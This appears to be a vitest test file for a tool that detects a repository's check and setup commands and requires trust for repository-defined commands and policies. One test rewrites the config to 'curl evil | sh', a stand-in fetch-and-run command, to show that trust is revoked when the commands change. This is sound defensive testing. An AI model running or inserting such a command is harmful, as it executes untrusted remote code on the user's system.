import type { Project } from "@tutti/core";
import { afterEach, expect, test } from "vitest";
import { type SampleRepository, sampleRepository } from "./sample-repository.ts";

const samples: SampleRepository[] = [];
afterEach(async () => {
  for (const sample of samples.splice(0)) await sample.remove();
});

async function sampleOf(files: Record<string, string>): Promise<SampleRepository> {
  const sample = await sampleRepository(files);
  samples.push(sample);
  return sample;
}

async function read(sample: SampleRepository, commit = sample.base): Promise<Project> {
  const request = {
    type: "project.read",
    repository: sample.root,
    commit,
    checkSeconds: 90,
    claims: [] as string[],
  } as const;
  const result = await sample.work(request);
  if (result.type !== "project.found") throw new Error(JSON.stringify(result));
  return result.project;
}

async function detected(files: Record<string, string>) {
  const { checks, setup, sources, trust } = await read(await sampleOf(files));
  expect(trust).toBeNull();
  return { checks: checks.map(({ command }) => command), setup, sources };
}

const packageJson = (scripts: Record<string, string>, more: object = {}) =>
  JSON.stringify({ scripts, ...more });

test("package scripts are checks, and what they call defines them", async () => {
  const found = await detected({
    "package.json": packageJson(
      {
        test: "npm run unit && ./scripts/e2e.sh",
        pretest: "node scripts/prepare.mjs",
        unit: "node 'scripts/unit.mjs'; vitest run",
        lint: "eslint .",
        typecheck: "tsc",
        start: "node src/server.mjs",
        build: "node scripts/build.mjs",
      },
      { devDependencies: { vitest: "1" } },
    ),
    "package-lock.json": "{}",
    "scripts/e2e.sh": "",
    "scripts/unit.mjs": "",
    "scripts/prepare.mjs": "",
    "scripts/build.mjs": "",
    "src/server.mjs": "",
  });
  expect(found.checks).toEqual(["npm run typecheck", "npm run lint", "npm run test"]);
  expect(found.setup).toEqual(["npm ci --no-audit --no-fund"]);
  expect(found.sources).toEqual(
    expect.arrayContaining([
      "package.json",
      "scripts/e2e.sh",
      "scripts/unit.mjs",
      "scripts/prepare.mjs",
      "vitest.config.ts",
    ]),
  );
  expect(found.sources).not.toContain("src/server.mjs");
  expect(found.sources).not.toContain("scripts/build.mjs");
});

test("npm's placeholder for a test is no check, a broken package.json has none", async () => {
  const placeholder = packageJson({ test: 'echo "Error: no test specified" && exit 1' });
  expect((await detected({ "package.json": placeholder })).checks).toEqual([]);
  expect((await detected({ "package.json": "{" })).checks).toEqual([]);
});

test.each([
  [{ "pnpm-lock.yaml": "" }, "pnpm install --frozen-lockfile", "pnpm run test"],
  [{ "yarn.lock": "" }, "yarn install --frozen-lockfile", "yarn run test"],
  [{ "yarn.lock": "", ".yarnrc.yml": "" }, "yarn install --immutable", "yarn run test"],
  [{ "bun.lock": "" }, "bun install --frozen-lockfile", "bun run test"],
])("the lockfile names the package manager: %j", async (files, install, check) => {
  const found = await detected({ "package.json": packageJson({ test: "x" }), ...files });
  expect(found).toMatchObject({ setup: [install], checks: [check] });
});

test("a Makefile's targets, then each language's own command", async () => {
  const makefile = "VAR := 1\ntest: build\n\t@./ci/run.sh --all\nlint:\n\ttrue\ntesting:\n\ttrue\n";
  const made = await detected({ Makefile: makefile, "ci/run.sh": "", "go.mod": "", "Cargo.toml": "" });
  expect(made.checks).toEqual(["make lint", "make test"]);
  expect(made.sources).toEqual(expect.arrayContaining(["Makefile", "ci/run.sh", "go.mod"]));
  expect((await detected({ "go.mod": "" })).checks).toEqual(["go test ./..."]);
  expect((await detected({ "Cargo.toml": "" })).checks).toEqual(["cargo test"]);
});

test("Python: the lockfile sets up, pytest is run where the project speaks of it", async () => {
  expect(await detected({ "uv.lock": "", "pyproject.toml": "[tool.pytest.ini_options]" })).toMatchObject({
    setup: ["uv sync --frozen"],
    checks: ["uv run --frozen python -m pytest -q"],
  });
  expect(await detected({ "poetry.lock": "", "conftest.py": "" })).toMatchObject({
    setup: ["poetry install --no-interaction"],
    checks: ["poetry run python -m pytest -q"],
  });
  const plain = await detected({ "requirements.txt": "pytest\n", "app.py": "" });
  expect(plain.setup[0]).toBe("python3 -m venv .venv");
  expect(plain.checks[0]).toContain("-m pytest -q");
  expect((await detected({ "requirements.txt": "flask\n" })).checks).toEqual([]);
});

test("nothing known is nothing to do", async () => {
  expect(await detected({ "README.md": "" })).toEqual({
    checks: [],
    setup: [],
    sources: [".tutti/config.yaml"],
  });
});

test("the repository's own words win over detection, wait for trust, and lose it when they change", async () => {
  const config =
    "checks:\n  - {name: unit, run: ./ci/unit.sh --fast, timeout: 5}\n  - {name: all, run: make all}\ncopy: [.env]\n";
  const sample = await sampleOf({
    ".tutti/config.yaml": config,
    "ci/unit.sh": "",
    "package.json": packageJson({ test: "x" }),
    "package-lock.json": "{}",
  });
  const project = await read(sample);
  expect(project).toMatchObject({
    checks: [
      { name: "unit", command: "./ci/unit.sh --fast", timeoutSeconds: 5 },
      { name: "all", command: "make all", timeoutSeconds: 90 },
    ],
    setup: ["npm ci --no-audit --no-fund"],
    copy: [".env"],
    trust: {
      given: false,
      items: ["check unit: ./ci/unit.sh --fast", "check all: make all", "copy into the worktree: .env"],
    },
  });
  expect(project.sources).toEqual(
    expect.arrayContaining([".tutti/config.yaml", "ci/unit.sh", "package.json"]),
  );

  const { hash = "" } = project.trust ?? {};
  await sample.work({ type: "project.trust", repository: sample.root, hash });
  expect((await read(sample)).trust?.given).toBe(true);
  await sample.write(".tutti/config.yaml", config.replace("make all", "curl evil | sh"));
  const changed = sample.commit("Change the commands");
  expect((await read(sample, changed)).trust?.given).toBe(false);
  expect((await read(sample)).trust?.given).toBe(true);
});

test("only the commit that is named is read, and a broken config is refused with its line", async () => {
  const sample = await sampleOf({ "go.mod": "" });
  await sample.write(".tutti/config.yaml", "checks:\n  - {name: never, run: 'true'}\n");
  expect((await read(sample)).checks.map(({ name }) => name)).toEqual(["go test"]);
  await sample.write(".tutti/config.yaml", "setup: x\nset-up: y\n");
  const commit = sample.commit("Break it");
  expect(
    await sample.work({ type: "project.read", repository: sample.root, commit, checkSeconds: 1, claims: [] }),
  ).toMatchObject({
    kind: "bad-config",
    message: expect.stringContaining(".tutti/config.yaml:2: set-up"),
  });
});

test("the repository's own policies are read at the commit, and trusted by their text", async () => {
  const files = {
    ".tutti/policies/team.yaml": "rules: []\n",
    ".tutti/policies/mine.ts": "export const policy = 1;\n",
    ".tutti/policies/README.md": "",
    ".tutti/policies/deep/other.yaml": "",
  };
  const sample = await sampleOf(files);
  const { policies, trust } = await read(sample);
  expect(policies).toEqual([
    { file: ".tutti/policies/mine.ts", content: "export const policy = 1;\n" },
    { file: ".tutti/policies/team.yaml", content: "rules: []\n" },
  ]);
  expect(trust).toMatchObject({
    given: false,
    items: [
      expect.stringMatching(/^policy program, carried out by the server: \.tutti\/policies\/mine\.ts \(/),
      expect.stringMatching(/^policies: \.tutti\/policies\/team\.yaml \(/),
    ],
  });
  const other = await read(await sampleOf({ ...files, ".tutti/policies/team.yaml": "policies: []\n" }));
  expect(other.trust?.hash).not.toBe(trust?.hash);
});

test("a policy file that is far too long is refused", async () => {
  const sample = await sampleOf({ ".tutti/policies/big.yaml": `# ${"x".repeat(200_000)}` });
  await expect(read(sample)).rejects.toThrow(/bad-policies/);
});
